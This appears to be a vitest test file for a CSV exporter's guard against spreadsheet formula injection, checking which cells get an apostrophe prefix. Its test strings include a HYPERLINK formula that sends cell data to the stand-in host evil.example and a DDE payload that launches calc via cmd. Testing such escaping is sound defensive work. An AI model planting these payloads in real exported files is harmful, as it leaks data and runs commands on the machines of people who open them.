// toCsv (src/output/csv.ts): RFC 4180, and the contract's spreadsheet rule (issue 31 item 9): a
// text cell starting with =, +, -, @, tab or CR gets a leading ', unless it is a plain number or
// phone number (a sign, digits, a decimal part: issue 41); numbers are never text; --csv-raw (raw: true) writes every cell as given.
import { describe, expect, it } from 'vitest';
import { keyColumns, spreadsheetSafe, toCsv } from '../../src/output/csv.js';

const SAFE = { raw: false };
const RAW = { raw: true };
const one = (value: unknown, options = SAFE) => toCsv([{ header: 'v', value: () => value }], [null], options).split('\r\n')[1];

describe('spreadsheetSafe', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    // Numbers written some other way than a plain decimal are prefixed too (the header says why).
    ['+-3', "'+-3"],
    ['+3+1', "'+3+1"],
    ['+91 98765 43210', "'+91 98765 43210"],
    ['-1e5', "'-1e5"],
    ['-.5', "'-.5"],
    ['--1', "'--1"],
    ['-', "'-"],
    ['-100.00 ', "'-100.00 "],
  ])('%j → %j', (text, out) => {
    expect(spreadsheetSafe(text)).toBe(out);
  });

  it.each(['-100.00', '-5', '+3', '+919876543210', '+100.50', '0', '42', '1000.50', 'refunded', ' =1', "'=1", 'a=b', '', 'RF1234567890', '2026-11-27T19:58:10Z'])('%j stays', (text) => {
    expect(spreadsheetSafe(text)).toBe(text);
  });
});

describe('toCsv', () => {
  it('prefixes text cells, quoting after the prefix (RFC 4180)', () => {
    expect(one('=HYPERLINK("http://x/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`);
    expect(one('\r=1')).toBe(`"'\r=1"`);
    expect(one('-100.00')).toBe('-100.00');
    expect(one('plain')).toBe('plain');
  });

  it('never prefixes a number, boolean or empty value', () => {
    expect(one(-5)).toBe('-5');
    expect(one(-12.5)).toBe('-12.5');
    expect(one(-1e-7)).toBe('-1e-7');
    expect(one(false)).toBe('false');
    expect(one(null)).toBe('');
    expect(one(undefined)).toBe('');
  });

  it('raw: every cell as given', () => {
    expect(one('=1+1', RAW)).toBe('=1+1');
    expect(one('+cmd', RAW)).toBe('+cmd');
    expect(one('@x,y', RAW)).toBe('"@x,y"');
  });

  it('the header row and nested keys follow the same rule', () => {
    const doc = toCsv(keyColumns<Record<string, unknown>>(['a.b', '=h']), [{ a: { b: '@x' } }], SAFE);
    expect(doc).toBe("a.b,'=h\r\n'@x,\r\n");
  });
});
